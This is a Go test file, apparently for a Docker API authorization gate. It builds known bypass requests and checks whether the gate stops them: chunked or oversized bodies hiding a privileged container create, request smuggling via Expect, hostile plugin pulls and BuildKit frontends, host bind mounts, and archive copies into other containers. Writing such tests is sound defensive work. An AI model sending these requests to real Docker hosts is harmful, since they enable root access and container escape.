package gate

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"io"
	"strings"
	"time"
)

// Requests that make a privileged container, written as plainly as can be.
const (
	jsonType  = "Content-Type: application/json\r\n"
	formType  = "Content-Type: application/x-www-form-urlencoded\r\n"
	privBody  = `{"Image":"IMAGE","Cmd":["/x"],"HostConfig":{"Privileged":true}}`
	plainBody = `{"Image":"IMAGE","Cmd":["/x"],"HostConfig":{"NetworkMode":"none"}}`
	create    = "/containers/create?name=harm"
)

// nearCreate is the neighbour of most cases: a create of nothing dangerous.
var nearCreate = []string{post("/containers/create?name=near", plainBody)}

func pad(n int) string { return strings.Repeat("x", n) }

// chunkedAs sends a body in one chunk.
func chunkedAs(target, head, body string) func(*scene) {
	return func(s *scene) {
		body := s.words.Replace(body)
		s.send(chunked(target, head, body))
	}
}

// casesA are the ids A*: flaws of the engine or of gates in front of it that became known.
func casesA() []bypass {
	return []bypass{
		{
			id: "A1", what: "a body of no said length", play: chunkedAs(create, head+jsonType, privBody),
			nearPlay: func(s *scene) error {
				chunkedAs("/containers/create?name=near", head+jsonType, plainBody)(s)
				return s.passed()
			},
		},
		{
			id: "A1", what: "a length of 0 and a chunked body", play: chunkedAs(create, head+jsonType+"Content-Length: 0\r\n", privBody),
			near: nearCreate,
		},
		{
			id: "A2", what: "a body of more than 1 MiB", near: []string{post("/containers/create?name=near", padded(plainBody, 2<<20))},
			steps: []string{post(create, padded(privBody, 2<<20))},
		},
		{
			id: "A2", what: "a body of more than a gate reads", near: nearCreate,
			steps: []string{post(create, padded(privBody, 5<<20))},
		},
		{
			id: "A3", what: "a plugin without its rights being asked for", near: []string{get("/images/json")},
			steps: []string{request("POST", "/plugins/pull?remote=WITNESS/evil:1&name=evil", head+jsonType, "[]")}, harm: fetched,
		},
		{
			id: "A4", what: "copying in what a program of the container unpacks", enter: true, only: "none",
			steps: []string{request("PUT", "/containers/MINEID/archive?path=/tmp", head+"Content-Type: application/x-tar\r\n", gzipped(tarText("a4", "x")))},
			harm: func(s *scene) string {
				if s.in("mine", "cat", "/tmp/a4-ran") != "" {
					return "a program of the container ran as root"
				}
				return ""
			},
			near: []string{request("PUT", "/containers/MINEID/archive?path=/tmp", head+"Content-Type: application/x-tar\r\n", tarText("a4b", "x"))},
		},
		{
			id: "A5", what: "copying in by who may not enter", harm: copied, copies: true,
			steps: []string{request("PUT", "/containers/VICTIMID/archive?path=/tmp", head+"Content-Type: application/x-tar\r\n", tarText("copied", "owned"))},
			near:  []string{get("/containers/MINEID/json")},
		},
		{
			id: "A7", what: "a build with a frontend of the attacker's choice", harm: fetched, near: []string{buildOf("near", "FROM IMAGE\nLABEL a=b\n", "")},
			steps: []string{buildOf("harm", "# syntax=WITNESS/frontend:1\nFROM scratch\n", "&version=2")}, tidy: []string{del("/images/near?force=1")},
		},
		{
			id: "A7", what: "the frontend in a build argument", harm: fetched, near: []string{buildOf("near", "FROM IMAGE\nLABEL a=b\n", "&buildargs=%7B%22A%22:%22b%22%7D")},
			steps: []string{request("POST", "/build?version=2&remote=http://WITNESS/ctx&buildargs=%7B%22BUILDKIT_SYNTAX%22:%22WITNESS/frontend:1%22%7D", head, "")},
			tidy:  []string{del("/images/near?force=1")},
		},
		{
			id: "A8", what: "a mount in the list that is looked at less", near: []string{post("/containers/create?name=near", mountBody("SRVDIR/data"))},
			steps: []string{post(create, mountBody("HOSTDIR")), post("/containers/harm/start", "")}, harm: wrote,
		},
		{
			id: "A10", what: "Expect, and a request in what seems its body", near: nearCreate, only: "none",
			steps: []string{"POST /containers/create?name=x HTTP/1.1\r\nHost: d\r\n" + jsonType + "Expect: 100-continue\r\nContent-Length: 5\r\n\r\n" +
				strings.ReplaceAll(post(create, privBody), "LENGTH", "80")},
		},
	}
}

func padded(body string, n int) string {
	return strings.TrimSuffix(body, "}") + `,"Labels":{"pad":"` + pad(n) + `"}}`
}

func mountBody(source string) string {
	return `{"Image":"IMAGE","Cmd":["sh","-c","echo x >/m/owned"],"HostConfig":{"NetworkMode":"none","Mounts":[{"Type":"bind","Source":"` + source + `","Target":"/m"}]}}`
}

func tarText(name, body string) string {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	_ = w.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(body))}) // a buffer takes all
	_, _ = io.WriteString(w, body)
	_ = w.Close()
	return b.String()
}

func gzipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, s)
	_ = w.Close()
	return b.String()
}

// buildOf builds a Dockerfile by the engine's own builder.
func buildOf(tag, dockerfile, query string) string {
	// The words are filled in after the archive is made: they must not change its lengths.
	return "BUILD " + tag + " " + query + "\x00" + dockerfile
}

func copied(s *scene) string {
	time.Sleep(200 * time.Millisecond) // who was told to write it may still do so
	if strings.Contains(s.in("victim", "cat", "/tmp/copied"), "owned") {
		return "a file is in another's container"
	}
	return ""
}
